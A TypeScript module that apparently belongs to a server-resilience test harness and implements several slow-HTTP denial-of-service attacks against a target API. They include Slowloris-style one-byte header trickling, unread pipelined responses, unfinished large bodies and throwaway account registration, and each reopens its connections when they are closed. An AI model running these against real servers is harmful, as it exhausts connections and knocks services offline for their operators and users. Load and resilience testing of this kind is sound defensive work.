import { randomUUID } from 'node:crypto'
import { connect, type Socket } from 'node:net'
import { type Attack, type Attacker, type Target, wasProcessed } from './target.ts'

/** A TCP connection that speaks HTTP by hand and reads only on request. */
function openConnection({ url }: Target): Promise<Socket> {
  const { hostname, port } = new URL(url)
  return new Promise((resolve, reject) => {
    const socket = connect(Number(port), hostname)
    socket.once('connect', () => resolve(socket))
    socket.once('error', reject)
    socket.on('error', () => {})
    socket.pause()
  })
}

const head = (path: string, token?: string) =>
  `GET ${path} HTTP/1.1\r\nHost: x\r\n${token ? `Authorization: Bearer ${token}\r\n` : ''}\r\n`

const heldMs = 200
const headLength = 'HTTP/1.1 200'.length

/**
 * Opens connections, and opens those again that the server closes: an attack goes on. A connection was accepted when it is
 * still open after a moment; one with a request, when that is being answered, and only the first bytes are read.
 */
async function holdConnections(
  target: Target,
  count: number,
  use: (connection: Socket) => void,
  { answered = false } = {},
): Promise<Attack> {
  const connections = new Set<Socket>()
  let stopped = false
  let accepted = 0
  const watch = (connection: Socket) => {
    if (answered)
      connection.once(
        'readable',
        () => wasProcessed(Number(String(connection.read(headLength)).slice(-3))) && accepted++,
      )
    else setTimeout(() => connection.destroyed || accepted++, heldMs)
  }
  const add = async () => {
    if (stopped) return
    const connection = await openConnection(target).catch(() => null)
    if (!connection) return
    connections.add(connection)
    connection.once('close', () => {
      connections.delete(connection)
      if (!stopped) setTimeout(() => void add(), 50)
    })
    watch(connection)
    use(connection)
  }
  await Promise.all(Array.from({ length: count }, add))
  return {
    accepted: () => accepted,
    stop: async () => {
      stopped = true
      for (const connection of connections) connection.destroy()
    },
  }
}

/** A hundred anonymous connections pipeline as many requests as allowed, for the page's files, and read no answers. */
export const pipelinedRequests: Attacker = target =>
  holdConnections(target, 100, connection => connection.write(head('/').repeat(16)), { answered: true })

/** Sixty connections of one account ask for its longest list and read none of the answers. */
export const unreadLists: Attacker = target =>
  holdConnections(
    target,
    60,
    connection => connection.write(head('/api/v1/tasks?category=long&page_size=100', target.token)),
    {
      answered: true,
    },
  )

/** Five hundred connections send one byte of a request's head every second. */
export const slowHeads: Attacker = async target => {
  const timers = new Set<NodeJS.Timeout>()
  const attack = await holdConnections(target, 500, connection => {
    connection.write('GET / HTTP/1.1\r\nX-Slow: ')
    const timer = setInterval(() => connection.write('x'), 1_000)
    timers.add(timer)
    connection.once('close', () => clearInterval(timer))
  })
  return {
    ...attack,
    stop: async () => {
      for (const timer of timers) clearInterval(timer)
      await attack.stop()
    },
  }
}

/** Four hundred anonymous connections send almost as much of a sign-in as allowed, and never the end of it. */
export const unfinishedBodies: Attacker = target =>
  holdConnections(target, 400, connection => {
    connection.write(
      'POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 65000\r\n\r\n',
    )
    connection.write(Buffer.alloc(64_000, 0x20))
  })

/** Ninety connections of three accounts announce a task and send nothing of it. */
export const slowBodies: Attacker = async target => {
  const tokens = [target.token, await register(target), await register(target)]
  let nth = 0
  return holdConnections(target, 90, connection => {
    const token = tokens[nth++ % tokens.length]
    connection.write(
      `POST /api/v1/tasks HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token}\r\nContent-Type: application/json\r\nContent-Length: 70000\r\n\r\n`,
    )
  })
}

async function register({ url }: Target): Promise<string> {
  const name = `slow-${randomUUID().slice(0, 8)}`
  const answer = await fetch(`${url}/api/v1/auth/register`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ email: `${name}@example.com`, username: name, password: 'correct horse 9' }),
  })
  return ((await answer.json()) as { access_token: string }).access_token
}
